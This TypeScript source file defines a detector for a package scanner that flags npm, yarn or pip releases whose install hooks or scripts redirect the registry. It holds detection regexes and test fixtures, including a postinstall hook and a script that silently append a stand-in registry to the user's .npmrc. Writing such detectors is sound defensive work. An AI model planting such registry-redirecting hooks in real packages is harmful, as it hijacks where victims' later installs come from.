import { type Deed, deedsOf } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import { installHooks, lineOf, scriptsWith } from "./_npm.ts";
import { isLate, sight } from "./_sight.ts";

const WORDS = [".npmrc", "config set", ".yarnrc", "pip.conf"] as const;
/** A command that sets where packages come from. */
const SETS =
  /\b(?:npm|pnpm|yarn|bun|pip3?)[ \t]{1,4}(?:config|c)[ \t]{1,4}set[ \t]{1,4}(?:-g[ \t]{1,4}|--\w{1,20}[ \t]{1,4}){0,2}["']?(?:@[\w.-]{1,60}:)?(?:registry|npmRegistryServer|global\.(?:extra-)?index-url)\b[^\n]{0,10}https?:/i;
/** A settings file that does, as the path and the text that a call is given. */
const SETTINGS = /\.npmrc|\.yarnrc|pip[\\/]pip\.conf/;
const LINE = /(?:registry|index-url)["']?[ \t]{0,4}[=: ][ \t"']{0,4}https?:/i;

export const redirectsRegistry: Detector = {
  id: "redirects-registry",
  title: "Takes packages from another registry from now on",
  severity: "high",
  ecosystems: ["npm"],
  points: 4.6,
  class: "threat",
  group: "persistence",
  why: `Installing or loading the release tells npm, yarn or pip to fetch packages from an address of its own. Whatever is installed
afterwards comes from there, and removing the package changes nothing.

Setup tools of companies write such settings when somebody calls them; a library has no reason to.`,
  literals: WORDS,
  *detect(tree) {
    for (const { path, name, command } of installHooks(tree)) {
      if (!SETS.test(command)) continue;
      const says = `${name} runs \`${command.slice(0, 200)}\``;
      yield { path, line: lineOf(tree, path, command), says, phase: "install" };
    }
    for (const file of scriptsWith(tree, WORDS)) {
      const deed = deedsOf(file, "write", "start").find(isRedirection);
      if (deed === undefined) continue;
      const late = isLate(deed);
      const says = `${deed.what} sets the registry: ${deed.text.slice(0, 160)}`;
      yield sight(file, deed.offset, says, { phase: deed.phase, share: late ? 0.2 : 1 });
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "npm",
        files: { "package.json": `{"scripts":{"postinstall":"npm config set registry http://example.invalid/"}}` },
      },
    ],
    passes: [
      {
        ecosystem: "npm",
        files: {
          "package.json": `{"scripts":{"postinstall":"npm config get registry"}}`,
          "a.js": "require('fs').writeFileSync('.npmrc', 'save-exact=true');\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const fs = require('fs'), os = require('os');\nfs.appendFileSync(os.homedir() + '/.npmrc', '\\nregistry=https://example.invalid/npm/');\n",
        },
      },
    ],
  },
};

function isRedirection({ act, text }: Deed): boolean {
  return act === "start" ? SETS.test(text) : SETTINGS.test(text) && LINE.test(text);
}
